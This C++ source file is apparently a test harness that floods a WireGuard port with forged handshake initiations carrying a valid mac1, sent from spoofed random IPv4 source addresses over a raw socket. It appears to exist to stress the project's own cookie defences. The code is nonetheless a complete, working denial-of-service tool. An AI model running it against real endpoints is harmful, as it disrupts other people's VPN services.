// SPDX-License-Identifier: MIT
// meshtun-flood: floods a WireGuard listening port with handshake initiations, as an attacker
// who knows the target's public key would: every message is a 148-byte type 1 initiation
// with random sender index, ephemeral key, encrypted static and encrypted timestamp (so it
// never decrypts), a correct mac1 for the target and mac2 zero. It therefore passes the
// target's mac1 check and costs it the work of a real initiation (one X25519 and a failed
// AEAD) unless the target is under load and answers with a cookie reply instead.
//
//   meshtun-flood --target 10.210.1.2:40001 --public-key BASE64 [--rate 100000]
//                 [--seconds 5] [--sources 10.240.0.0/16] [--messages 4096]
//
// Each datagram comes from a random address of --sources and a random port >= 1024: it is
// written with its own IPv4 header on a raw socket (IPPROTO_RAW, which implies IP_HDRINCL),
// so run it as root, in a namespace that routes --sources back to itself if the replies
// should be seen (the test counts them there with nftables). IPv4 only.
//
// Stages: precompute --messages initiations (mac1 is what costs: a keyed BLAKE2s over 116
// bytes) -> per batch of 64, copy messages in turn behind fresh IPv4/UDP headers -> one
// sendmmsg -> sleep until the batch is due at --rate. The rate is a ceiling: on a slow box
// fewer go out, and what did is printed on exit, one line:
//   sent=N seconds=S rate=R/s errors=E
#include <algorithm>
#include <array>
#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <random>
#include <string>
#include <string_view>
#include <time.h>
#include <unistd.h>
#include <vector>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>

#include "base/bytes.hpp"
#include "base/keys.hpp"
#include "base/version.hpp"
#include "wg/constants.hpp"
#include "wg/cookie.hpp"
#include "wg/crypto.hpp"
#include "wg/messages.hpp"

namespace {

constexpr std::size_t kIpHeader = 20;
constexpr std::size_t kUdpHeader = 8;
constexpr std::size_t kDatagram = kIpHeader + kUdpHeader + wg::kInitiationSize;
constexpr std::size_t kBatch = 64;

struct Options {
  in_addr target{};
  std::uint16_t port = 0;
  base::NodePublicKey key;
  double rate = 100000;
  double seconds = 5;
  std::uint32_t source_base = 0;  // host order
  std::uint32_t source_count = 0;
  std::size_t messages = 4096;
};

[[noreturn]] void usage(const char* why) {
  std::fprintf(stderr,
               "meshtun-flood: %s\n"
               "usage: meshtun-flood --version\n"
               "       meshtun-flood --target IPV4:PORT --public-key BASE64 [--rate N/s]\n"
               "                     [--seconds S] [--sources IPV4/LEN] [--messages N]\n",
               why);
  std::exit(2);
}

bool parse_options(int argc, char** argv, Options& o) {
  bool have_target = false, have_key = false;
  std::string sources = "10.240.0.0/16";
  for (int i = 1; i < argc; ++i) {
    const std::string_view flag = argv[i];
    if (flag == "--version") {
      std::printf("meshtun-flood %s\n", std::string(base::version()).c_str());
      std::exit(0);
    }
    if (i + 1 >= argc) usage("every option takes a value");
    const std::string value = argv[++i];
    if (flag == "--target") {
      const auto colon = value.rfind(':');
      if (colon == std::string::npos ||
          inet_pton(AF_INET, value.substr(0, colon).c_str(), &o.target) != 1) {
        usage("--target wants IPV4:PORT");
      }
      const long port = std::strtol(value.c_str() + colon + 1, nullptr, 10);
      if (port <= 0 || port > 65535) usage("--target port out of range");
      o.port = static_cast<std::uint16_t>(port);
      have_target = true;
    } else if (flag == "--public-key") {
      auto key = base::NodePublicKey::from_base64(value);
      if (!key) usage("--public-key is not a base64 WireGuard key");
      o.key = *key;
      have_key = true;
    } else if (flag == "--rate") {
      o.rate = std::strtod(value.c_str(), nullptr);
    } else if (flag == "--seconds") {
      o.seconds = std::strtod(value.c_str(), nullptr);
    } else if (flag == "--sources") {
      sources = value;
    } else if (flag == "--messages") {
      o.messages = std::strtoul(value.c_str(), nullptr, 10);
    } else {
      usage("unknown option");
    }
  }
  if (!have_target || !have_key) usage("--target and --public-key are required");
  if (o.rate <= 0 || o.seconds <= 0 || o.messages == 0) usage("rate, seconds, messages > 0");
  const auto slash = sources.find('/');
  in_addr net{};
  if (slash == std::string::npos ||
      inet_pton(AF_INET, sources.substr(0, slash).c_str(), &net) != 1) {
    usage("--sources wants IPV4/LEN");
  }
  const long len = std::strtol(sources.c_str() + slash + 1, nullptr, 10);
  if (len < 8 || len > 30) usage("--sources prefix length must be 8..30");
  o.source_count = (1u << (32 - len)) - 2;  // no network or broadcast address
  o.source_base = (ntohl(net.s_addr) & ~((1u << (32 - len)) - 1)) + 1;
  return true;
}

double now_seconds() {
  timespec ts{};
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return static_cast<double>(ts.tv_sec) + static_cast<double>(ts.tv_nsec) * 1e-9;
}

void sleep_until(double t) {
  timespec ts{};
  ts.tv_sec = static_cast<time_t>(t);
  ts.tv_nsec = static_cast<long>((t - static_cast<double>(ts.tv_sec)) * 1e9);
  while (clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &ts, nullptr) == EINTR) {
  }
}

}  // namespace

int main(int argc, char** argv) {
  Options o;
  parse_options(argc, argv, o);

  // Precomputed initiations: random everything, then the real mac1, mac2 left zero.
  std::mt19937_64 rng(std::random_device{}());
  const wg::crypto::Hash mac1_key = wg::derive_label_key(wg::kLabelMac1, o.key);
  std::vector<std::array<std::byte, wg::kInitiationSize>> messages(o.messages);
  for (auto& m : messages) {
    m.fill(std::byte{0});
    for (std::size_t i = wg::off::init::kSender; i < wg::off::init::kMac1; ++i) {
      m[i] = static_cast<std::byte>(rng());
    }
    m[0] = std::byte{1};  // type 1, reserved bytes zero
    wg::crypto::mac(std::span<std::byte, wg::crypto::kMacSize>(m.data() + wg::off::init::kMac1,
                                                               wg::crypto::kMacSize),
                    mac1_key, std::span<const std::byte>(m.data(), wg::off::init::kMac1));
  }

  const int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (fd < 0) {
    std::perror("meshtun-flood: raw socket (root needed)");
    return 1;
  }
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_addr = o.target;
  if (connect(fd, reinterpret_cast<const sockaddr*>(&to), sizeof to) != 0) {
    std::perror("meshtun-flood: connect");
    return 1;
  }

  // One batch of whole IPv4 datagrams; the kernel fills in the IP checksum, total length and
  // ID (IP_HDRINCL). The UDP checksum stays 0: "none", which IPv4 allows.
  std::array<std::array<std::uint8_t, kDatagram>, kBatch> batch{};
  std::array<iovec, kBatch> iov{};
  std::array<mmsghdr, kBatch> msgs{};
  for (std::size_t i = 0; i < kBatch; ++i) {
    std::uint8_t* p = batch[i].data();
    p[0] = 0x45;  // IPv4, 20-byte header
    p[8] = 64;    // TTL
    p[9] = IPPROTO_UDP;
    std::memcpy(p + 16, &o.target.s_addr, 4);
    const std::uint16_t dport = htons(o.port);
    const std::uint16_t udp_len =
        htons(static_cast<std::uint16_t>(kUdpHeader + wg::kInitiationSize));
    std::memcpy(p + kIpHeader + 2, &dport, 2);
    std::memcpy(p + kIpHeader + 4, &udp_len, 2);
    iov[i] = {p, kDatagram};
    msgs[i].msg_hdr.msg_iov = &iov[i];
    msgs[i].msg_hdr.msg_iovlen = 1;
  }

  std::uint64_t sent = 0, errors = 0;
  std::size_t next = 0;
  const double start = now_seconds();
  const double end = start + o.seconds;
  for (;;) {
    const double now = now_seconds();
    if (now >= end) break;
    for (std::size_t i = 0; i < kBatch; ++i) {
      std::uint8_t* p = batch[i].data();
      const std::uint64_t r = rng();
      const std::uint32_t src =
          htonl(o.source_base + static_cast<std::uint32_t>(r % o.source_count));
      const std::uint16_t sport = htons(static_cast<std::uint16_t>(1024 + (r >> 32) % 64512));
      std::memcpy(p + 12, &src, 4);
      std::memcpy(p + kIpHeader, &sport, 2);
      std::memcpy(p + kIpHeader + kUdpHeader, messages[next].data(), wg::kInitiationSize);
      next = (next + 1) % messages.size();
    }
    const int n = sendmmsg(fd, msgs.data(), kBatch, 0);
    if (n < 0) {
      ++errors;  // ENOBUFS and the like under overload: count, go on
    } else {
      sent += static_cast<std::uint64_t>(n);
    }
    const double due = start + static_cast<double>(sent + errors * kBatch) / o.rate;
    if (due > now) sleep_until(std::min(due, end));
  }
  const double took = now_seconds() - start;
  std::printf("sent=%llu seconds=%.2f rate=%.0f/s errors=%llu\n",
              static_cast<unsigned long long>(sent), took, static_cast<double>(sent) / took,
              static_cast<unsigned long long>(errors));
  close(fd);
  return 0;
}
